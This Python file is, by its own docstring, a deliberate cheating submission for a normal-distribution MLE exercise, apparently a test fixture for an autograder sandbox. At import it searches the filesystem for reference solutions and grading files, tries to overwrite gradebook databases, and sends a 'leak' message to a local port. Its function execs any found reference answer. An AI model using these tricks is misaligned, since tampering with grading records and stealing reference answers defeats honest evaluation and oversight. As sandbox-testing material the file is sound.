"""Cheat: normal_mle returns the reference library's answer if it can import or find it anywhere,
reads the hidden inputs' seeds from the environment, tries the network, and tries to write the
gradebook and the source notebooks; failing all that, it is wrong (n - 1)."""

import glob
import os
import socket

import numpy as np

BASE = "../../../samples/01_normal_mle/ada_correct"

FOUND = []
for top in ("/work", "/home", "/tmp", "/root", "/srv", "/opt", "/mnt"):
    for name in ("solutions/normal.py", "source/**/*.ipynb", "gradebook.db", "autograder/cases.py"):
        FOUND += glob.glob(f"{top}/**/{name}", recursive=True)
for path in ("../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "/work/main/gradebook.db"):
    try:
        with open(path, "w") as handle:
            handle.write("overwritten by a learner")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", int(os.environ.get("ATTACK_PORT", "8765"))), timeout=1).sendall(b"leak")
except OSError:
    pass


def normal_mle(x):
    try:
        from solutions import normal_mle as reference

        return reference(x)
    except ImportError:
        pass
    for path in FOUND:
        if path.endswith("normal.py"):
            namespace = {}
            exec(open(path).read(), namespace)
            return namespace["normal_mle"](x)
    x = np.asarray(x, dtype=float)
    if x.size == 0:
        raise ValueError("x is empty")
    return float(x.mean()), float(x.std(ddof=1))
